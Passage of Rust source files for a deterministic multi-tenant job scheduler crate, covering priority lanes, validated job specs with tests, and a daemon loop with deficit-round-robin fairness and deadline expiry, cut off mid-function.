//!   admission control ([`Rejection`] carries *why* a submit bounced);
//! * [`Lane`] — three priority lanes (interactive / standard / batch) with
//!   optional per-job deadlines for intra-lane ordering;
//! * [`TenantRate`] — per-tenant token-bucket rate limiting driven by the
//!   virtual [`Clock`] (the same clock trait the rest of the workspace
//!   uses — re-exported here and from `netsim::clock`, never a third
//!   abstraction);
//! * a claim-counter worker pool that multiplexes in-flight jobs across
//!   OS threads while keeping every observable output scheduling-free.
//!
//! ## Determinism model
//!
//! Dispatch order is a pure function of the submitted jobs: jobs sort by
//! `(lane, deadline, submission sequence)` and jobs of one tenant form a
//! *chain* that executes sequentially (tenants share mutable state — a
//! warm artifact store — so intra-tenant order must be program order).
//! Chains are distributed over workers with a claim counter, results land
//! in per-chain slots, and the drained output is re-sorted into dispatch
//! order. Timestamps come from the virtual clock, which only the driver
//! advances — so wait times, rate-limit decisions, and the `sched.*`
//! metrics and span tree are identical whether the pool has 1 worker or 8.
//!
//! Like `obs` and `store`, this crate is dependency-free (its only
//! workspace dependency *is* `obs`): `std::sync` primitives and scoped
//! threads are all it needs.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod job;
mod pool;
mod queue;
mod ratelimit;

pub use job::{JobId, JobSpec, Lane};
pub use obs::Clock;
pub use queue::{CompletedJob, Rejection, Scheduler, SchedulerConfig};
pub use ratelimit::TenantRate;
