//! Job identities and submission specs.

use std::fmt;

/// Priority lane for a submitted job. Lanes order strictly: every
/// [`Lane::Interactive`] job dispatches before any [`Lane::Standard`] job,
/// which dispatches before any [`Lane::Batch`] job.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Lane {
    /// A tenant is waiting on the result (dashboard refresh, CLI call).
    Interactive,
    /// Default lane for routine audit requests.
    Standard,
    /// Bulk/backfill work that should never starve the other lanes.
    Batch,
}

impl Lane {
    /// Stable lowercase name, used in traces and reports.
    pub fn as_str(self) -> &'static str {
        match self {
            Lane::Interactive => "interactive",
            Lane::Standard => "standard",
            Lane::Batch => "batch",
        }
    }

    /// Numeric rank used when recording the lane in a span (0 is the most
    /// urgent).
    pub fn rank(self) -> u64 {
        match self {
            Lane::Interactive => 0,
            Lane::Standard => 1,
            Lane::Batch => 2,
        }
    }
}

impl fmt::Display for Lane {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Opaque handle for a submitted job, unique within one [`Scheduler`].
///
/// Ids are handed out in submission order, which makes them the final
/// tie-breaker in the dispatch sort: two jobs in the same lane with the
/// same deadline dispatch in the order they were submitted.
///
/// [`Scheduler`]: crate::Scheduler
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct JobId(pub u64);

impl fmt::Display for JobId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "job-{}", self.0)
    }
}

/// What a tenant asks for when submitting work.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobSpec {
    /// Tenant identity. Jobs of one tenant always execute in submission
    /// order (they share per-tenant state such as a warm artifact pack);
    /// distinct tenants may run concurrently.
    pub tenant: String,
    /// Priority lane.
    pub lane: Lane,
    /// Optional deadline on the virtual clock, in milliseconds. Within a
    /// lane, earlier deadlines dispatch first; jobs without a deadline
    /// sort after all deadlined jobs in their lane.
    pub deadline_ms: Option<u64>,
}

impl JobSpec {
    /// A standard-lane spec with no deadline.
    pub fn new(tenant: impl Into<String>) -> Self {
        JobSpec {
            tenant: tenant.into(),
            lane: Lane::Standard,
            deadline_ms: None,
        }
    }

    /// Set the priority lane.
    pub fn lane(mut self, lane: Lane) -> Self {
        self.lane = lane;
        self
    }

    /// Set a virtual-clock deadline in milliseconds.
    pub fn deadline_ms(mut self, deadline: u64) -> Self {
        self.deadline_ms = Some(deadline);
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lanes_order_by_urgency() {
        assert!(Lane::Interactive < Lane::Standard);
        assert!(Lane::Standard < Lane::Batch);
        assert_eq!(Lane::Interactive.rank(), 0);
        assert_eq!(Lane::Batch.as_str(), "batch");
    }

    #[test]
    fn spec_builder_sets_fields() {
        let spec = JobSpec::new("acme").lane(Lane::Batch).deadline_ms(5_000);
        assert_eq!(spec.tenant, "acme");
        assert_eq!(spec.lane, Lane::Batch);
        assert_eq!(spec.deadline_ms, Some(5_000));
    }
}
