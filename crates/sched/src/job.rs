//! Job identities and submission specs.

use std::fmt;

/// Priority lane for a submitted job. Lanes order strictly: every
/// [`Lane::Interactive`] job dispatches before any [`Lane::Standard`] job,
/// which dispatches before any [`Lane::Batch`] job.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Lane {
    /// A tenant is waiting on the result (dashboard refresh, CLI call).
    Interactive,
    /// Default lane for routine audit requests.
    Standard,
    /// Bulk/backfill work that should never starve the other lanes.
    Batch,
}

impl Lane {
    /// Every lane, most urgent first.
    pub const ALL: [Lane; 3] = [Lane::Interactive, Lane::Standard, Lane::Batch];

    /// Stable lowercase name, used in traces and reports.
    pub fn as_str(self) -> &'static str {
        match self {
            Lane::Interactive => "interactive",
            Lane::Standard => "standard",
            Lane::Batch => "batch",
        }
    }

    /// Parse a stable lane tag (`"interactive"` / `"standard"` /
    /// `"batch"`), as a fleet manifest or CLI flag would supply it.
    pub fn parse(tag: &str) -> Option<Lane> {
        Lane::ALL.into_iter().find(|l| l.as_str() == tag)
    }

    /// Numeric rank used when recording the lane in a span (0 is the most
    /// urgent).
    pub fn rank(self) -> u64 {
        match self {
            Lane::Interactive => 0,
            Lane::Standard => 1,
            Lane::Batch => 2,
        }
    }
}

impl fmt::Display for Lane {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Opaque handle for a submitted job, unique within one scheduler or
/// daemon.
///
/// Ids are handed out in submission order, which makes them the final
/// tie-breaker in the dispatch sort: two jobs in the same lane with the
/// same deadline dispatch in the order they were submitted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct JobId(pub u64);

impl fmt::Display for JobId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "job-{}", self.0)
    }
}

/// What a tenant asks for when submitting work.
///
/// # The dispatch-order contract
///
/// Dispatch order is a pure function of the submitted specs — never of
/// worker count or wall-clock time — and is decided by, in order:
///
/// 1. **lane** — [`Lane::Interactive`] before [`Lane::Standard`] before
///    [`Lane::Batch`], strictly;
/// 2. **deadline** — within a lane, earlier [`deadline_ms`] first; jobs
///    without a deadline sort after all deadlined jobs in their lane;
/// 3. **id** — within a lane and deadline, submission order;
/// 4. **same-tenant submission order** — one tenant's jobs always
///    *execute* in ascending submission id, even when a later submission
///    earned an earlier lane/deadline slot (the chain fills the dispatch
///    slots its jobs earned as a group, by ascending id). Tenants share
///    mutable state — a warm artifact pack — so an epoch-N+1 re-audit
///    must never run before the epoch-N audit it diffs against. This
///    holds across cooperative preemption: a parked `Batch` job still
///    blocks the same tenant's later submissions until it completes.
///
/// Under the daemon loop, deficit-round-robin fairness bounds how many
/// jobs one tenant may *select* per round (weighted by [`weight`]), but
/// within every round the selected set dispatches by exactly the order
/// above.
///
/// [`deadline_ms`]: JobSpec::deadline_ms
/// [`weight`]: JobSpec::weight
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobSpec {
    /// Tenant identity. Jobs of one tenant always execute in submission
    /// order (they share per-tenant state such as a warm artifact pack);
    /// distinct tenants may run concurrently.
    pub tenant: String,
    /// Priority lane.
    pub lane: Lane,
    /// Optional deadline on the virtual clock, in milliseconds. Within a
    /// lane, earlier deadlines dispatch first; jobs without a deadline
    /// sort after all deadlined jobs in their lane. Under the daemon
    /// loop, a job still queued when its deadline passes is dropped with
    /// [`Rejection::DeadlineExpired`](crate::Rejection::DeadlineExpired).
    pub deadline_ms: Option<u64>,
    /// Deficit-round-robin weight for this tenant (default 1). Each
    /// daemon round grants every backlogged tenant `quantum × weight`
    /// dispatch slots, so a weight-2 tenant gets twice the service of a
    /// weight-1 tenant under contention. The tenant's weight is the one
    /// carried by its most recent submission. Zero is invalid: the
    /// validated [`JobSpec::builder`] refuses it, and the fleet layer
    /// fails fast with a config error.
    pub weight: u32,
}

impl JobSpec {
    /// A standard-lane, weight-1 spec with no deadline.
    pub fn new(tenant: impl Into<String>) -> Self {
        JobSpec {
            tenant: tenant.into(),
            lane: Lane::Standard,
            deadline_ms: None,
            weight: 1,
        }
    }

    /// The validated construction path: every field checked up front,
    /// invalid combinations refused with a typed [`SpecError`] before
    /// anything touches a queue.
    pub fn builder(tenant: impl Into<String>) -> JobSpecBuilder {
        JobSpecBuilder {
            tenant: tenant.into(),
            lane: Lane::Standard,
            deadline_ms: None,
            weight: 1,
            bad_lane: None,
        }
    }

    /// Set the priority lane.
    pub fn lane(mut self, lane: Lane) -> Self {
        self.lane = lane;
        self
    }

    /// Set a virtual-clock deadline in milliseconds.
    pub fn deadline_ms(mut self, deadline: u64) -> Self {
        self.deadline_ms = Some(deadline);
        self
    }

    /// Set the tenant's deficit-round-robin weight.
    pub fn weight(mut self, weight: u32) -> Self {
        self.weight = weight;
        self
    }
}

/// Why [`JobSpecBuilder::build`] refused a spec. The fleet layer maps
/// every variant onto its config-kind error, so an invalid spec fails
/// fast at construction — never after queueing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SpecError {
    /// The tenant id was empty.
    EmptyTenant,
    /// The weight was zero — a zero-weight tenant would never be granted
    /// a dispatch slot by the deficit-round-robin scheduler.
    ZeroWeight {
        /// The offending tenant.
        tenant: String,
    },
    /// [`JobSpecBuilder::lane_named`] was given a tag that names no lane.
    UnknownLane {
        /// The unrecognised tag.
        tag: String,
    },
}

impl fmt::Display for SpecError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SpecError::EmptyTenant => write!(f, "job spec needs a non-empty tenant id"),
            SpecError::ZeroWeight { tenant } => write!(
                f,
                "tenant {tenant:?} has weight 0: a zero-weight tenant is never scheduled"
            ),
            SpecError::UnknownLane { tag } => write!(
                f,
                "unknown lane {tag:?}; expected one of: interactive, standard, batch"
            ),
        }
    }
}

impl std::error::Error for SpecError {}

/// Validated builder for [`JobSpec`] — the one construction path for
/// hand-built and facade-built jobs alike. See the [`JobSpec`] docs for
/// the dispatch-order contract the built spec participates in.
#[derive(Debug, Clone)]
pub struct JobSpecBuilder {
    tenant: String,
    lane: Lane,
    deadline_ms: Option<u64>,
    weight: u32,
    bad_lane: Option<String>,
}

impl JobSpecBuilder {
    /// Set the priority lane.
    pub fn lane(mut self, lane: Lane) -> Self {
        self.lane = lane;
        self
    }

    /// [`Self::lane`] from a stable string tag (`"interactive"` /
    /// `"standard"` / `"batch"`). An unknown tag is remembered and
    /// surfaces as [`SpecError::UnknownLane`] from [`Self::build`].
    pub fn lane_named(mut self, tag: &str) -> Self {
        match Lane::parse(tag) {
            Some(lane) => {
                self.lane = lane;
                self
            }
            None => {
                self.bad_lane = Some(tag.to_string());
                self
            }
        }
    }

    /// Set a virtual-clock deadline in milliseconds. Whether the deadline
    /// is still ahead of the clock is checked at submission (the builder
    /// has no clock); a deadline already in the past fails fast there.
    pub fn deadline_ms(mut self, deadline: u64) -> Self {
        self.deadline_ms = Some(deadline);
        self
    }

    /// Set the tenant's deficit-round-robin weight (must be ≥ 1).
    pub fn weight(mut self, weight: u32) -> Self {
        self.weight = weight;
        self
    }

    /// Validate and produce the spec.
    pub fn build(self) -> Result<JobSpec, SpecError> {
        if let Some(tag) = self.bad_lane {
            return Err(SpecError::UnknownLane { tag });
        }
        if self.tenant.is_empty() {
            return Err(SpecError::EmptyTenant);
        }
        if self.weight == 0 {
            return Err(SpecError::ZeroWeight {
                tenant: self.tenant,
            });
        }
        Ok(JobSpec {
            tenant: self.tenant,
            lane: self.lane,
            deadline_ms: self.deadline_ms,
            weight: self.weight,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lanes_order_by_urgency() {
        assert!(Lane::Interactive < Lane::Standard);
        assert!(Lane::Standard < Lane::Batch);
        assert_eq!(Lane::Interactive.rank(), 0);
        assert_eq!(Lane::Batch.as_str(), "batch");
    }

    #[test]
    fn lane_tags_round_trip() {
        for lane in Lane::ALL {
            assert_eq!(Lane::parse(lane.as_str()), Some(lane));
        }
        assert_eq!(Lane::parse("bulk"), None);
    }

    #[test]
    fn spec_builder_sets_fields() {
        let spec = JobSpec::new("acme").lane(Lane::Batch).deadline_ms(5_000);
        assert_eq!(spec.tenant, "acme");
        assert_eq!(spec.lane, Lane::Batch);
        assert_eq!(spec.deadline_ms, Some(5_000));
        assert_eq!(spec.weight, 1);
    }

    #[test]
    fn validated_builder_accepts_a_full_spec() {
        let spec = JobSpec::builder("acme")
            .lane_named("batch")
            .deadline_ms(9_000)
            .weight(3)
            .build()
            .unwrap();
        assert_eq!(spec.tenant, "acme");
        assert_eq!(spec.lane, Lane::Batch);
        assert_eq!(spec.deadline_ms, Some(9_000));
        assert_eq!(spec.weight, 3);
    }

    #[test]
    fn validated_builder_fails_fast() {
        assert_eq!(
            JobSpec::builder("").build().unwrap_err(),
            SpecError::EmptyTenant
        );
        assert_eq!(
            JobSpec::builder("acme").weight(0).build().unwrap_err(),
            SpecError::ZeroWeight {
                tenant: "acme".into()
            }
        );
        assert_eq!(
            JobSpec::builder("acme")
                .lane_named("bulk")
                .build()
                .unwrap_err(),
            SpecError::UnknownLane { tag: "bulk".into() }
        );
    }
}
