//! The always-on daemon loop: deficit-round-robin fairness, typed
//! deadline expiry, and cooperative preemption over the virtual clock.
//!
//! [`Daemon`] is the continuous counterpart to the batch-shaped
//! [`Scheduler`](crate::Scheduler). Instead of draining everything queued
//! in one shot, the driver calls [`Daemon::tick`] repeatedly as it
//! advances the virtual clock; every tick
//!
//! 1. **expires** queued (never-dispatched) jobs whose deadline is
//!    strictly behind the clock, surfacing each as a typed
//!    [`JobEvent::Expired`] and counting it under `sched.expired`;
//! 2. **selects** work by deficit round-robin: every backlogged tenant
//!    earns `quantum × weight` dispatch slots per round, so a tenant
//!    flooding `Batch` jobs cannot starve anyone else's lane — the
//!    service gap between equal-weight backlogged tenants stays bounded
//!    by `quantum × weight` ([`Daemon::fairness_gap`] tracks the
//!    watermark, `sched.drr.max_gap` mirrors it);
//! 3. **executes** the selected jobs over the claim-counter pool in the
//!    dispatch order documented on [`JobSpec`], letting the executor
//!    **park** a job at a pipeline-stage boundary ([`StepResult::Parked`],
//!    counted under `sched.parked`): the job returns to the front of its
//!    tenant's queue and resumes — [`ExecCtx::resuming`] — on a later
//!    tick.
//!
//! Everything observable — events, counters, the merged span tree — is a
//! pure function of the submission history and tick times, independent of
//! [`DaemonConfig::workers`].

use crate::job::{JobId, JobSpec, Lane};
use crate::pool::run_chain_fns;
use crate::queue::{CompletedJob, Rejection};
use crate::ratelimit::{TenantRate, TokenBucket};
use obs::{Clock, Obs};
use std::collections::{BTreeMap, VecDeque};
use std::sync::{Arc, Mutex};

/// Knobs for one [`Daemon`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct DaemonConfig {
    /// Maximum number of queued (not yet completed) jobs. Submissions
    /// past this bound are rejected with [`Rejection::QueueFull`].
    pub queue_capacity: usize,
    /// Worker threads per tick. Any value produces byte-identical
    /// outputs; this knob only trades wall-clock time.
    pub workers: usize,
    /// Optional per-tenant submission rate limit.
    pub tenant_rate: Option<TenantRate>,
    /// Deficit-round-robin quantum: dispatch slots granted per tick to a
    /// weight-1 backlogged tenant. `0` disables fairness bounding — every
    /// tick selects everything queued, which is exactly the legacy
    /// [`Scheduler::drain`](crate::Scheduler::drain) dispatch order.
    pub quantum: u32,
    /// When set, `Batch`-lane jobs run in cooperative slices of at most
    /// this many journal frames: the executor is handed the bound via
    /// [`ExecCtx::slice_frames`] and parks the job at the next frame
    /// boundary past it. `None` runs every job to completion.
    pub batch_slice_frames: Option<u64>,
}

impl Default for DaemonConfig {
    fn default() -> Self {
        DaemonConfig {
            queue_capacity: 64,
            workers: 1,
            tenant_rate: None,
            quantum: 1,
            batch_slice_frames: None,
        }
    }
}

/// Per-dispatch context handed to the executor.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ExecCtx {
    /// True when this job previously parked: the executor should resume
    /// from its journal rather than start fresh.
    pub resuming: bool,
    /// Cooperative-preemption budget for this dispatch, in journal
    /// frames. `None` means run to completion; `Some(n)` asks the
    /// executor to park ([`StepResult::Parked`]) at the first frame
    /// boundary after writing `n` frames.
    pub slice_frames: Option<u64>,
}

/// What the executor did with one dispatch.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepResult<T> {
    /// The job ran to completion with this output.
    Done(T),
    /// The job parked at a pipeline-stage boundary; it keeps its place at
    /// the front of its tenant's queue and will be dispatched again with
    /// [`ExecCtx::resuming`] set.
    Parked,
}

/// A queued job dropped because its deadline passed before it was ever
/// dispatched. Carries the payload back so the caller can surface a
/// typed outcome for it.
#[derive(Debug, Clone, PartialEq)]
pub struct ExpiredJob<P> {
    /// Submission id.
    pub id: JobId,
    /// Owning tenant.
    pub tenant: String,
    /// Lane the job was queued in.
    pub lane: Lane,
    /// Virtual-clock submission time, milliseconds.
    pub submitted_ms: u64,
    /// The deadline that passed, virtual milliseconds.
    pub deadline_ms: u64,
    /// Virtual time at which the expiry was observed (the tick start).
    pub expired_at_ms: u64,
    /// The submitted payload, returned un-run.
    pub payload: P,
}

impl<P> ExpiredJob<P> {
    /// The typed rejection this expiry corresponds to.
    pub fn rejection(&self) -> Rejection {
        Rejection::DeadlineExpired {
            deadline_ms: self.deadline_ms,
            late_by_ms: self.expired_at_ms.saturating_sub(self.deadline_ms),
        }
    }
}

/// One entry of a tick's outcome stream.
#[derive(Debug, Clone, PartialEq)]
pub enum JobEvent<T, P> {
    /// A job ran to completion.
    Completed(CompletedJob<T>),
    /// A queued job's deadline passed; it was dropped un-run.
    Expired(ExpiredJob<P>),
}

/// A job dropped un-run by [`Daemon::abandon`].
#[derive(Debug, Clone, PartialEq)]
pub struct AbandonedJob<P> {
    /// Submission id.
    pub id: JobId,
    /// The submitted spec.
    pub spec: JobSpec,
    /// The submitted payload, returned un-run.
    pub payload: P,
}

/// One tenant's slice of a tick: the owning contender index plus its
/// `(dispatch slot, job)` pairs, run in order on one worker.
type TenantChain<P> = (usize, Vec<(usize, Queued<P>)>);

struct Queued<P> {
    id: JobId,
    spec: JobSpec,
    submitted_ms: u64,
    /// Set on first dispatch; wait time is measured to this instant and
    /// never grows across preemption slices.
    first_dispatch_ms: Option<u64>,
    parked: bool,
    payload: P,
}

struct TenantQueue<P> {
    /// Queued jobs in ascending submission id — the execution order the
    /// [`JobSpec`] contract promises for one tenant.
    jobs: VecDeque<Queued<P>>,
    weight: u32,
    /// Unspent dispatch slots carried between rounds.
    deficit: u64,
    /// Dispatch slots actually serviced while backlogged — the quantity
    /// whose spread across equal-weight tenants the fairness bound caps.
    serves: u64,
}

struct Inner<P> {
    tenants: BTreeMap<String, TenantQueue<P>>,
    buckets: BTreeMap<String, TokenBucket>,
    next_id: u64,
    queued_total: usize,
    max_gap: u64,
}

#[derive(Clone, Copy, PartialEq)]
enum TickKind {
    /// A daemon tick: expiry on, DRR quantum honored, batch slicing on.
    Tick,
    /// Legacy drain semantics: no expiry, unbounded quantum, no slicing;
    /// emits the historical `sched.drain` span.
    Drain,
}

/// The always-on deterministic multi-tenant scheduler. See the module
/// docs for the tick anatomy and [`JobSpec`] for the dispatch-order
/// contract.
pub struct Daemon<P> {
    config: DaemonConfig,
    clock: Arc<dyn Clock>,
    obs: Obs,
    inner: Mutex<Inner<P>>,
}

impl<P: Send> Daemon<P> {
    /// A daemon reading time from `clock` and reporting through `obs`.
    pub fn new(config: DaemonConfig, clock: Arc<dyn Clock>, obs: Obs) -> Self {
        Daemon {
            config,
            clock,
            obs,
            inner: Mutex::new(Inner {
                tenants: BTreeMap::new(),
                buckets: BTreeMap::new(),
                next_id: 0,
                queued_total: 0,
                max_gap: 0,
            }),
        }
    }

    /// The configuration this daemon was built with.
    pub fn config(&self) -> &DaemonConfig {
        &self.config
    }

    /// The virtual clock driving admission timestamps and expiry.
    pub fn clock(&self) -> &Arc<dyn Clock> {
        &self.clock
    }

    /// Jobs currently queued (parked jobs included).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("daemon poisoned").queued_total
    }

    /// Whether nothing is queued.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Watermark of the service gap observed between equal-weight
    /// backlogged tenants — the deficit-round-robin fairness bound keeps
    /// this at most `quantum × weight`. Mirrored by the `sched.drr.max_gap`
    /// gauge.
    pub fn fairness_gap(&self) -> u64 {
        self.inner.lock().expect("daemon poisoned").max_gap
    }

    /// Submit a job. Returns its [`JobId`], or a [`Rejection`] when the
    /// queue is at capacity or the tenant is over its rate. A deadline
    /// already behind the clock is accepted here and expires on the next
    /// tick — callers that want fail-fast semantics check before
    /// submitting (the fleet layer does).
    pub fn submit(&self, spec: JobSpec, payload: P) -> Result<JobId, Rejection> {
        let now_ms = self.clock.now_millis();
        let mut inner = self.inner.lock().expect("daemon poisoned");

        if inner.queued_total >= self.config.queue_capacity {
            self.obs.counter("sched.rejected.queue_full").incr();
            return Err(Rejection::QueueFull {
                capacity: self.config.queue_capacity,
            });
        }
        if let Some(rate) = self.config.tenant_rate {
            let bucket = inner
                .buckets
                .entry(spec.tenant.clone())
                .or_insert_with(|| TokenBucket::new(rate, now_ms));
            if let Err(retry_after_ms) = bucket.try_acquire(now_ms) {
                self.obs.counter("sched.rejected.rate_limited").incr();
                return Err(Rejection::RateLimited {
                    tenant: spec.tenant.clone(),
                    retry_after_ms,
                });
            }
        }

        let id = JobId(inner.next_id);
        inner.next_id += 1;

        // A tenant joining the backlog starts its service count at the
        // maximum among already-backlogged tenants of its weight, so an
        // arrival can neither claim catch-up service for its idle time
        // nor distort the fairness watermark.
        let join_serves = inner
            .tenants
            .iter()
            .filter(|(t, tq)| {
                t.as_str() != spec.tenant && !tq.jobs.is_empty() && tq.weight == spec.weight
            })
            .map(|(_, tq)| tq.serves)
            .max()
            .unwrap_or(0);
        let tq = inner
            .tenants
            .entry(spec.tenant.clone())
            .or_insert_with(|| TenantQueue {
                jobs: VecDeque::new(),
                weight: spec.weight,
                deficit: 0,
                serves: 0,
            });
        tq.weight = spec.weight;
        if tq.jobs.is_empty() {
            tq.serves = tq.serves.max(join_serves);
        }
        tq.jobs.push_back(Queued {
            id,
            spec,
            submitted_ms: now_ms,
            first_dispatch_ms: None,
            parked: false,
            payload,
        });
        inner.queued_total += 1;
        self.obs.counter("sched.submitted").incr();
        self.obs
            .gauge("sched.queue_depth")
            .set(inner.queued_total as i64);
        Ok(id)
    }

    /// Drop everything queued (parked jobs included) and return the
    /// abandoned jobs in submission order. This is the `Abandon` half of
    /// a shutdown; the `Drain` half is ticking until [`Self::is_empty`].
    pub fn abandon(&self) -> Vec<AbandonedJob<P>> {
        let mut inner = self.inner.lock().expect("daemon poisoned");
        let mut dropped = Vec::with_capacity(inner.queued_total);
        for tq in inner.tenants.values_mut() {
            for job in tq.jobs.drain(..) {
                dropped.push(AbandonedJob {
                    id: job.id,
                    spec: job.spec,
                    payload: job.payload,
                });
            }
            tq.deficit = 0;
        }
        dropped.sort_by_key(|j| j.id);
        inner.queued_total = 0;
        self.obs.gauge("sched.queue_depth").set(0);
        dropped
    }

    /// Run one daemon tick at the current virtual time: expire overdue
    /// queued jobs, select by deficit round-robin, execute (with batch
    /// slicing when configured), and return the tick's events — expiries
    /// first (dispatch-sorted), then completions in dispatch order.
    pub fn tick<T, F>(&self, exec: F) -> Vec<JobEvent<T, P>>
    where
        T: Send,
        F: Fn(JobId, &JobSpec, &mut P, ExecCtx) -> StepResult<T> + Sync,
    {
        self.step(TickKind::Tick, exec)
    }

    /// Legacy batch semantics: select everything queued regardless of
    /// quantum, with expiry and slicing off, under the historical
    /// `sched.drain` span. [`Scheduler::drain`](crate::Scheduler::drain)
    /// is a thin wrapper over this.
    pub fn drain_all<T, F>(&self, exec: F) -> Vec<CompletedJob<T>>
    where
        T: Send,
        F: Fn(JobId, &JobSpec, &mut P, ExecCtx) -> StepResult<T> + Sync,
    {
        self.step(TickKind::Drain, exec)
            .into_iter()
            .filter_map(|event| match event {
                JobEvent::Completed(done) => Some(done),
                JobEvent::Expired(_) => None,
            })
            .collect()
    }

    fn step<T, F>(&self, kind: TickKind, exec: F) -> Vec<JobEvent<T, P>>
    where
        T: Send,
        F: Fn(JobId, &JobSpec, &mut P, ExecCtx) -> StepResult<T> + Sync,
    {
        let now_ms = self.clock.now_millis();
        let unbounded = kind == TickKind::Drain || self.config.quantum == 0;

        struct Contender {
            tenant: String,
            /// Dispatch keys of the tenant's queued jobs, ascending.
            keys: Vec<(Lane, u64, u64)>,
            next_key: usize,
            /// Slots this tenant may still win this tick (`u64::MAX` when
            /// fairness bounding is off).
            budget: u64,
        }

        // Phase 1, under the lock: expire overdue jobs and select this
        // tick's work.
        let (expired, contenders, chains) = {
            let mut inner = self.inner.lock().expect("daemon poisoned");

            // Expiry. Only never-dispatched jobs expire: a parked job has
            // already consumed service and must complete so later jobs of
            // its tenant keep a valid chain to diff against. A job whose
            // deadline equals the clock may still dispatch this tick; it
            // expires once the clock is strictly past.
            let mut expired: Vec<ExpiredJob<P>> = Vec::new();
            if kind == TickKind::Tick {
                for (tenant, tq) in inner.tenants.iter_mut() {
                    let mut kept = VecDeque::with_capacity(tq.jobs.len());
                    while let Some(job) = tq.jobs.pop_front() {
                        match job.spec.deadline_ms {
                            Some(deadline) if deadline < now_ms && !job.parked => {
                                expired.push(ExpiredJob {
                                    id: job.id,
                                    tenant: tenant.clone(),
                                    lane: job.spec.lane,
                                    submitted_ms: job.submitted_ms,
                                    deadline_ms: deadline,
                                    expired_at_ms: now_ms,
                                    payload: job.payload,
                                });
                            }
                            _ => kept.push_back(job),
                        }
                    }
                    tq.jobs = kept;
                }
                inner.queued_total -= expired.len();
                expired.sort_by_key(|e| (e.lane, e.deadline_ms, e.id.0));
                self.obs.counter("sched.expired").add(expired.len() as u64);
            }

            // DRR refresh + contender setup.
            let quantum = self.config.quantum as u64;
            let mut contenders: Vec<Contender> = Vec::new();
            for (tenant, tq) in inner.tenants.iter_mut() {
                if tq.jobs.is_empty() {
                    continue;
                }
                let budget = if unbounded {
                    u64::MAX
                } else {
                    tq.deficit += quantum * tq.weight as u64;
                    tq.deficit
                };
                let mut keys: Vec<(Lane, u64, u64)> = tq
                    .jobs
                    .iter()
                    .map(|j| (j.spec.lane, j.spec.deadline_ms.unwrap_or(u64::MAX), j.id.0))
                    .collect();
                keys.sort_unstable();
                contenders.push(Contender {
                    tenant: tenant.clone(),
                    keys,
                    next_key: 0,
                    budget,
                });
            }

            // Selection loop: each slot goes to the tenant whose best
            // remaining dispatch key is globally minimal, while it has
            // budget. With unbounded budgets this is exactly the legacy
            // global (lane, deadline, id) sort.
            let mut slot_owner: Vec<usize> = Vec::new();
            loop {
                let mut best: Option<usize> = None;
                for (i, c) in contenders.iter().enumerate() {
                    if c.budget == 0 || c.next_key >= c.keys.len() {
                        continue;
                    }
                    let better = match best {
                        None => true,
                        Some(b) => c.keys[c.next_key] < contenders[b].keys[contenders[b].next_key],
                    };
                    if better {
                        best = Some(i);
                    }
                }
                let Some(b) = best else { break };
                let winner = &mut contenders[b];
                if winner.budget != u64::MAX {
                    winner.budget -= 1;
                }
                winner.next_key += 1;
                slot_owner.push(b);
            }

            // Pop the selected jobs — per tenant, by ascending id: the
            // chain fills the dispatch slots its jobs earned as a group
            // (JobSpec's same-tenant contract).
            let mut counts = vec![0usize; contenders.len()];
            for &owner in &slot_owner {
                counts[owner] += 1;
            }
            let mut popped: Vec<VecDeque<Queued<P>>> = Vec::with_capacity(contenders.len());
            for (i, c) in contenders.iter().enumerate() {
                let tq = inner
                    .tenants
                    .get_mut(&c.tenant)
                    .expect("contender tenant vanished");
                let mut jobs = VecDeque::with_capacity(counts[i]);
                for _ in 0..counts[i] {
                    jobs.push_back(tq.jobs.pop_front().expect("selected more than queued"));
                }
                if !unbounded {
                    tq.deficit = c.budget;
                    tq.serves += counts[i] as u64;
                }
                inner.queued_total -= counts[i];
                popped.push(jobs);
            }

            // Group slots into per-tenant chains, chains ordered by first
            // appearance in slot order.
            let mut chain_index: Vec<Option<usize>> = vec![None; contenders.len()];
            let mut chains: Vec<TenantChain<P>> = Vec::new();
            for (slot, &owner) in slot_owner.iter().enumerate() {
                let ci = match chain_index[owner] {
                    Some(ci) => ci,
                    None => {
                        chains.push((owner, Vec::new()));
                        chain_index[owner] = Some(chains.len() - 1);
                        chains.len() - 1
                    }
                };
                let job = popped[owner].pop_front().expect("slot without a job");
                chains[ci].1.push((slot, job));
            }

            (expired, contenders, chains)
        };

        let selected: usize = chains.iter().map(|(_, c)| c.len()).sum();

        // Phase 2, lock released: execute. The root span mirrors the
        // legacy `sched.drain` shape; daemon ticks emit `sched.tick` only
        // when something happened, so idle polling stays trace-free.
        let root = if kind == TickKind::Drain || selected > 0 || !expired.is_empty() {
            let root = self.obs.span(match kind {
                TickKind::Drain => "sched.drain",
                TickKind::Tick => "sched.tick",
            });
            root.record("jobs", selected as u64);
            root.record("chains", chains.len() as u64);
            if !expired.is_empty() {
                root.record("expired", expired.len() as u64);
            }
            Some(root)
        } else {
            None
        };

        let slice_frames = match kind {
            TickKind::Drain => None,
            TickKind::Tick => self.config.batch_slice_frames,
        };
        let results = run_chain_fns(chains, self.config.workers, |(owner, chain)| {
